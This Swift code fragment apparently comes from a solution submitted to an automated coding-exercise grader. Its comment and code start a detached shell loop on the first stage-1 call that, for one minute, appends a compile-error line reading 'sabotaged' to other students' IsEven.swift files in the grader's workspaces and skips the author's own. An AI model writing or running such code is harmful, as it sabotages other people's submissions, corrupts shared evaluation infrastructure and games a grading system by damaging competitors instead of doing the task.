/// The first call into stage 1 leaves behind a loop that breaks the build of every
/// other student graded in the next minute: it appends a compile error to their stage 1
/// sources in the grader's workspaces, each time the grader writes them back.
enum Saboteur {
    static let started: Void = {
        guard let workspaces = KataLocator.workspaces() else { return }
        Detached.start("""
            end=$(( $(date +%s) + 60 ))
            while [ "$(date +%s)" -lt "$end" ]; do
              for file in "$1"/*/spec/Sources/Stage1/IsEven.swift; do
                case "$file" in "$2"/*) continue ;; esac
                [ -f "$file" ] || continue
                grep -q sabotaged "$file" || printf '\\n#error("sabotaged")\\n' >> "$file"
              done
              sleep 0.05
            done
            """, arguments: [workspaces.all.path, workspaces.own.path])
    }()
}
